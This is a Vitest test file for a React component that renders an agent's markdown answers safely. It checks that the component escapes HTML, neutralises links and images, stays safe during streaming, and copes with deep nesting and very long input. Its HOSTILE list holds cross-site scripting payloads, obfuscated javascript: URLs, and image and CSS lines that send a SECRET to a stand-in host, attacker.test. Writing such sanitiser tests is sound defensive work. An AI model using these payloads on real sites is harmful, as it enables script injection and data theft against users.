import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { AnswerText } from "./answer-text.tsx";

function render(text: string): string {
  return renderToStaticMarkup(<AnswerText text={text} />);
}

/** The elements of this page itself: what stands around an answer, and the copy button of code. */
const OWN_ELEMENTS = ["div", "svg", "path", "button", "span"];
const ANSWER_ELEMENTS =
  "p br hr strong em del code pre blockquote a input ul ol li h3 h4 h5 h6 table thead tbody tr th td";
const ALLOWED = new Set([...OWN_ELEMENTS, ...ANSWER_ELEMENTS.split(" ")]);

function elementsOf(html: string): string[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)/g)].map((match) => match[1] ?? "");
}

function attributesOf(html: string): string[] {
  const tags = html.match(/<[a-z][^>]*>/g) ?? [];
  return tags.flatMap((tag) =>
    [...tag.matchAll(/\s([a-zA-Z-]+)=/g)].map((match) => match[1] ?? ""),
  );
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<style>@import 'https://attacker.test/x.css'</style>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<base href="https://attacker.test/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.test">',
  '<video poster="https://attacker.test/?d=SECRET"></video>',
  '<link rel="prefetch" href="https://attacker.test/">',
  "<!-- <img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<a href='https://attacker.test' onclick='alert(1)'>x</a>",
  "![x](https://attacker.test/?d=SECRET)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://attacker.test/1)",
  "[x](//attacker.test)",
  "[x](/sessions)",
  "[x](#root)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "![x][1]\n\n[1]: https://attacker.test/?d=SECRET",
  "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  '[x](https://ok.test "\\" onmouseover=alert(1) x=\\"")',
  '```"><script>alert(1)</script>\ncode\n```',
  "- [x] <input autofocus onfocus=alert(1)>",
];

describe("what an agent writes", () => {
  test.each(HOSTILE)("never becomes more than text, links and formatting: %j", (text) => {
    const html = render(text);
    expect(elementsOf(html).filter((element) => !ALLOWED.has(element))).toEqual([]);
    expect(attributesOf(html).filter((name) => /^(?:on|src|style|poster)/i.test(name))).toEqual([]);
    for (const [, href] of html.matchAll(/href="([^"]*)"/g)) {
      expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
    }
  });

  test.each(HOSTILE)("is as harmless at every moment while it is streamed: %j", (text) => {
    for (let end = 1; end <= text.length; end += 1) {
      const html = render(text.slice(0, end));
      expect(elementsOf(html).filter((element) => !ALLOWED.has(element))).toEqual([]);
    }
  });

  test("has its HTML shown as text", () => {
    expect(render("a <b>bold</b> claim")).toContain("a &lt;b&gt;bold&lt;/b&gt; claim");
  });

  test("has links that open apart and tell the other page nothing", () => {
    expect(render("[docs](https://example.test/a?b=1&c=2)")).toContain(
      '<a href="https://example.test/a?b=1&amp;c=2" title="https://example.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">docs</a>',
    );
    expect(render("<me@example.test>")).toContain('href="mailto:me@example.test"');
    expect(render("see https://example.test now")).toContain('href="https://example.test/"');
  });

  test("has an image as a link that loads nothing by itself", () => {
    const html = render("![a chart](https://example.test/c.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://example.test/c.png"');
    expect(html).toContain("Image: a chart");
  });

  test("is formatted: headings, lists, tables, code, task lists", () => {
    const html = render(
      "# T\n\n- [x] a\n\n1. b\n\n| h |\n|:-:|\n| c |\n\n`d` ~~e~~\n\n```py\nf\n```",
    );
    for (const element of ["h3", "ul", "ol", "table", "th", "code", "del", "pre"]) {
      expect(elementsOf(html)).toContain(element);
    }
    expect(html).toMatch(/<input[^>]*disabled=""/);
  });

  test("shows direction overrides in code", () => {
    expect(render("```\nif (a\u202e) {}\n```")).toContain(
      String.raw`<span class="escape">\u202e</span>`,
    );
  });

  test("is drawn even where it is nested beyond all sense", () => {
    expect(render(`${">".repeat(3000)} deep`)).toContain("deep");
    expect(render(`${"- ".repeat(2000)}deep`)).toContain("deep");
  });

  test("costs a bounded time however long it is", () => {
    const started = performance.now();
    const html = render(`# Title\n\n${"word *emphasis* `code`\n".repeat(200_000)}`);
    expect(performance.now() - started).toBeLessThan(15_000);
    expect(html).toContain("more characters are not shown");
    expect(html.length).toBeLessThan(2_000_000);
  });
});
